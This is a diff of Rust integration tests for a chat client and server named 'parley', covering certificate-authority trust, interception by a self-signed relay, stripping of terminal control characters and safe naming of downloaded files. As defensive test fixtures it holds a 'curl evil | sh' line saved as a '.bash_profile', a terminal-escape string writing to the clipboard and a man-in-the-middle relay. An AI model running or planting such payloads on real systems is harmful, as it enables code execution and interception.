@@ -258,9 +258,9 @@ async fn tls_trusts_on_first_use_then_remembers_and_refuses_a_change() {
     server.shutdown().await;
 }
 
-#[tokio::test]
-async fn a_certificate_from_a_trusted_authority_needs_no_fingerprint() {
-    let data = temp_dir("ca");
+/// A certificate authority and a certificate for `localhost` it signed, as PEM files in
+/// `dir`: `(server.crt, server.key, roots.pem)`.
+fn authority(dir: &Path) -> (PathBuf, PathBuf, PathBuf) {
     let ca_key = rcgen::KeyPair::generate().expect("key");
     let mut ca_params = rcgen::CertificateParams::new(Vec::<String>::new()).expect("params");
     ca_params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
@@ -270,11 +270,24 @@ async fn a_certificate_from_a_trusted_authority_needs_no_fingerprint() {
     let server_params = rcgen::CertificateParams::new(vec!["localhost".to_owned()]).expect("params");
     let issuer = rcgen::Issuer::new(ca_params, ca_key);
     let server_cert = server_params.signed_by(&server_key, &issuer).expect("signed");
-    let (cert, key, roots) = (data.join("server.crt"), data.join("server.key"), data.join("roots.pem"));
+    let (cert, key, roots) = (dir.join("server.crt"), dir.join("server.key"), dir.join("roots.pem"));
     std::fs::write(&cert, server_cert.pem()).expect("cert");
     std::fs::write(&key, server_key.serialize_pem()).expect("key");
     std::fs::write(&roots, ca.pem()).expect("roots");
+    (cert, key, roots)
+}
 
+/// `parley chat` with `roots` as the system's certificate authorities.
+fn chat_with_roots(args: &[&str], known_hosts: &Path, roots: &Path) -> Command {
+    let mut command = chat(args, known_hosts);
+    command.env("SSL_CERT_FILE", roots).env_remove("SSL_CERT_DIR");
+    command
+}
+
+#[tokio::test]
+async fn a_certificate_from_a_trusted_authority_needs_no_fingerprint_and_is_remembered_as_such() {
+    let data = temp_dir("ca");
+    let (cert, key, roots) = authority(&data);
     let server = start(&data, |c| {
         c.tls.cert = Some(cert.clone());
         c.tls.key = Some(key.clone());
@@ -282,11 +295,211 @@ async fn a_certificate_from_a_trusted_authority_needs_no_fingerprint() {
     .await;
     let known_hosts = data.join("known_hosts");
     let addr = format!("localhost:{}", server.native_tls.port());
-    let mut command = chat(&["--name", "verified", &addr], &known_hosts);
-    command.env("SSL_CERT_FILE", &roots).env_remove("SSL_CERT_DIR");
-    let output = run_with_input(command, "").await;
+    let output = run_with_input(chat_with_roots(&["--name", "verified", &addr], &known_hosts, &roots), "").await;
     assert!(output.status.success(), "{output:?}");
     assert!(text(&output.stderr).contains("certificate verified by a trusted authority"), "{output:?}");
-    assert!(!known_hosts.exists(), "nothing to remember for a verified certificate");
+    assert_eq!(std::fs::read_to_string(&known_hosts).expect("remembered"), format!("{addr} authority\n"));
+    let again = run_with_input(chat_with_roots(&["--name", "again", &addr], &known_hosts, &roots), "").await;
+    assert!(again.status.success(), "{again:?}");
+    assert_eq!(std::fs::read_to_string(&known_hosts).expect("kept"), format!("{addr} authority\n"), "once");
+    server.shutdown().await;
+}
+
+/// A TCP relay whose destination can be changed: the same `host:port` to the client,
+/// another server behind it, as someone on the path would arrange.
+struct Relay {
+    addr: SocketAddr,
+    to: std::sync::Arc<std::sync::Mutex<SocketAddr>>,
+}
+
+impl Relay {
+    async fn start(to: SocketAddr) -> Relay {
+        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("binds");
+        let addr = listener.local_addr().expect("addr");
+        let to = std::sync::Arc::new(std::sync::Mutex::new(to));
+        let target = to.clone();
+        tokio::spawn(async move {
+            while let Ok((mut client, _)) = listener.accept().await {
+                let server = *target.lock().expect("unpoisoned");
+                tokio::spawn(async move {
+                    if let Ok(mut server) = TcpStream::connect(server).await {
+                        let _ = tokio::io::copy_bidirectional(&mut client, &mut server).await;
+                    }
+                });
+            }
+        });
+        Relay { addr, to }
+    }
+
+    fn send_to(&self, to: SocketAddr) {
+        *self.to.lock().expect("unpoisoned") = to;
+    }
+}
+
+/// A TLS server with a self-signed certificate for `localhost` that records what the
+/// first client to connect first sends after the handshake: `Err` when the client gave
+/// up during the handshake, the bytes otherwise. Returns its address, its certificate's
+/// fingerprint, and the record.
+async fn interceptor() -> (SocketAddr, String, tokio::sync::oneshot::Receiver<Result<Vec<u8>, String>>) {
+    let certified = rcgen::generate_simple_self_signed(vec!["localhost".to_owned()]).expect("certificate");
+    let der = certified.cert.der().clone();
+    let fingerprint = ring::digest::digest(&ring::digest::SHA256, &der)
+        .as_ref()
+        .iter()
+        .map(|b| format!("{b:02X}"))
+        .collect::<Vec<_>>()
+        .join(":");
+    let key = rustls::pki_types::PrivateKeyDer::Pkcs8(certified.signing_key.serialize_der().into());
+    let provider = std::sync::Arc::new(rustls::crypto::ring::default_provider());
+    let config = rustls::ServerConfig::builder_with_provider(provider)
+        .with_safe_default_protocol_versions()
+        .expect("versions")
+        .with_no_client_auth()
+        .with_single_cert(vec![der], key)
+        .expect("config");
+    let acceptor = tokio_rustls::TlsAcceptor::from(std::sync::Arc::new(config));
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("binds");
+    let addr = listener.local_addr().expect("addr");
+    let (tx, rx) = tokio::sync::oneshot::channel();
+    tokio::spawn(async move {
+        let Ok((stream, _)) = listener.accept().await else { return };
+        let record = match acceptor.accept(stream).await {
+            Err(e) => Err(e.to_string()),
+            Ok(mut stream) => {
+                // The first thing a client says (its hello), then the connection goes.
+                let mut got = vec![0u8; 4096];
+                let n = tokio::time::timeout(WAIT, stream.read(&mut got)).await.ok().and_then(Result::ok);
+                got.truncate(n.unwrap_or(0));
+                Ok(got)
+            }
+        };
+        let _ = tx.send(record);
+    });
+    (addr, fingerprint, rx)
+}
+
+#[tokio::test]
+async fn a_server_once_verified_by_an_authority_is_never_trusted_on_first_use() {
+    let data = temp_dir("downgrade");
+    let (cert, key, roots) = authority(&data);
+    let server = start(&data, |c| {
+        c.tls.cert = Some(cert.clone());
+        c.tls.key = Some(key.clone());
+    })
+    .await;
+    let relay = Relay::start(server.native_tls).await;
+    let known_hosts = data.join("known_hosts");
+    let addr = format!("localhost:{}", relay.addr.port());
+    let first = run_with_input(chat_with_roots(&["--name", "victim", &addr], &known_hosts, &roots), "").await;
+    assert!(first.status.success(), "{first:?}");
+
+    // Someone on the path now answers for the server, with a self-signed certificate.
+    let (intercepting, fingerprint, record) = interceptor().await;
+    relay.send_to(intercepting);
+    let input = "/login victim correct-horse-battery\n";
+    let refused = run_with_input(chat_with_roots(&["--name", "victim", &addr], &known_hosts, &roots), input).await;
+    assert_eq!(refused.status.code(), Some(2), "{refused:?}");
+    let stderr = text(&refused.stderr);
+    assert!(stderr.contains("THE SERVER'S CERTIFICATE IS NOT SIGNED BY A TRUSTED AUTHORITY"), "{stderr}");
+    assert!(stderr.contains(&fingerprint), "{stderr}");
+    assert!(!stderr.contains("first connection"), "{stderr}");
+    assert_eq!(std::fs::read_to_string(&known_hosts).expect("kept"), format!("{addr} authority\n"));
+    // The client gave up during the handshake: not a byte of a name or a password went
+    // to the interceptor.
+    let record = tokio::time::timeout(WAIT, record).await.expect("in time").expect("recorded");
+    assert!(record.is_err(), "the interceptor read {record:?}");
+    server.shutdown().await;
+}
+
+/// Text that would drive a terminal: an OSC 52 clipboard write (ending in BEL), a screen
+/// clear, and a CSI in its 8-bit C1 form.
+const HOSTILE: &str = "\x1b]52;c;ZWNobyBwd25lZA==\x07 \x1b[2J \u{9b}31m";
+
+/// What is left of [`HOSTILE`] on a terminal: the controls replaced, visibly.
+const DEFUSED: &str = "\u{FFFD}]52;c;ZWNobyBwd25lZA==\u{FFFD} \u{FFFD}[2J \u{FFFD}31m";
+
+/// Makes each `(name, password)` an account and a server admin, as `parley admin` would.
+fn admins(data: &Path, accounts: &[(&str, &str)]) {
+    use parley_hub::{AccountStore as _, Nick};
+    let store = parley_store::SqliteStore::open(data, parley_store::Retention::default()).expect("opens");
+    for (name, password) in accounts {
+        let nick = Nick::parse(name, 32).expect("nick");
+        let account = store.register(&nick, password).expect("registers").expect("a new account");
+        assert!(store.set_admin(&account, true).expect("grants"));
+    }
+}
+
+#[tokio::test]
+async fn text_from_others_reaches_the_plain_client_without_control_characters() {
+    let data = temp_dir("hostile");
+    admins(&data, &[("root", "root-password"), ("boss", "boss-password")]);
+    let server = start(&data, |_| {}).await;
+    let mut root = Watcher::join(server.line, "someone").await;
+    root.say("/login root root-password").await;
+    root.expect("You are logged in as root.").await;
+    root.say("/join dev").await;
+    root.expect("You joined dev. Users here: @root").await;
+    // A line user reads no echo of what it says; the topic's announcement comes after.
+    root.say(&format!("clipboard {HOSTILE}")).await;
+    root.say(&format!("/topic {HOSTILE}")).await;
+    root.expect(&format!("root set the topic of dev: {DEFUSED}")).await;
+    root.say("/join vault").await;
+    root.expect("You joined vault. Users here: @root").await;
+    root.say(&format!("/ban piper 1d {HOSTILE}")).await;
+    root.expect("UTC.").await;
+
+    let input = "/join dev\n/search clipboard\n/topic\n/join vault\n/login boss boss-password\n/audit 5\n";
+    let output =
+        run_with_input(chat(&["--plain", "--name", "piper", &server.native.to_string()], &data.join("kh")), input)
+            .await;
+    assert!(output.status.success(), "{output:?}");
+    let (stdout, stderr) = (text(&output.stdout), text(&output.stderr));
+    for shown in [&stdout, &stderr] {
+        assert!(!shown.chars().any(|c| c.is_control() && c != '\n' && c != '\t'), "a control character: {shown:?}");
+    }
+    let lines: Vec<&str> = stdout.lines().collect();
+    let said = |line: &&str| line.ends_with(&format!("dev #1 root: clipboard {DEFUSED}"));
+    assert!(lines.iter().any(said), "a search result: {stdout}");
+    assert!(lines.iter().any(|l| l.ends_with(&format!("Topic: {DEFUSED}"))), "the topic on joining: {stdout}");
+    assert!(lines.iter().any(|l| l.starts_with(&format!("Topic of dev: {DEFUSED} (set by root"))), "{stdout}");
+    let banned = format!("Error: you are banned from vault: {DEFUSED}");
+    assert!(lines.iter().any(|l| l.starts_with(&banned)), "the ban's reason: {stdout}");
+    assert!(
+        lines.iter().any(|l| l.contains(&format!("root: ban piper in vault ({DEFUSED}"))),
+        "the audit log: {stdout}"
+    );
+    server.shutdown().await;
+}
+
+#[tokio::test]
+async fn get_saves_a_shared_file_under_a_safe_name_in_the_current_directory() {
+    let data = temp_dir("get");
+    let server = start(&data, |_| {}).await;
+    let transport = parley_client::Transport::Plain;
+    let (alice, _events, _) =
+        parley_client::Client::connect(&server.native.to_string(), &transport).await.expect("connects");
+    alice.hello("alice").await.expect("welcomed");
+    let source = data.join(".bash_profile");
+    std::fs::write(&source, b"curl evil | sh\n").expect("written");
+    let room = parley_client::Audience::Room("lobby".into());
+    let sent = alice.send_file(&source, room, |_| {}).await.expect("shared");
+    let here = data.join("downloads");
+    std::fs::create_dir_all(&here).expect("dir");
+    std::fs::write(here.join("bash_profile"), b"mine").expect("written");
+
+    let id = &sent.info.file;
+    let mut command = chat(&["--plain", "--name", "bob", &server.native.to_string()], &data.join("kh"));
+    command.current_dir(&here);
+    let output = run_with_input(command, &format!("/get {id}\n/get {id} given\n")).await;
+    assert!(output.status.success(), "{output:?}");
+    let stdout = text(&output.stdout);
+    assert!(
+        stdout.contains("Saved .bash_profile (15 B, SHA-256 verified) from alice to ./bash_profile (1)"),
+        "{stdout}"
+    );
+    assert_eq!(std::fs::read(here.join("bash_profile (1)")).expect("saved"), b"curl evil | sh\n");
+    assert_eq!(std::fs::read(here.join("bash_profile")).expect("kept"), b"mine");
+    assert_eq!(std::fs::read(here.join("given")).expect("saved as given"), b"curl evil | sh\n");
+    assert!(!here.join(".bash_profile").exists(), "no hidden file appears");
     server.shutdown().await;
 }
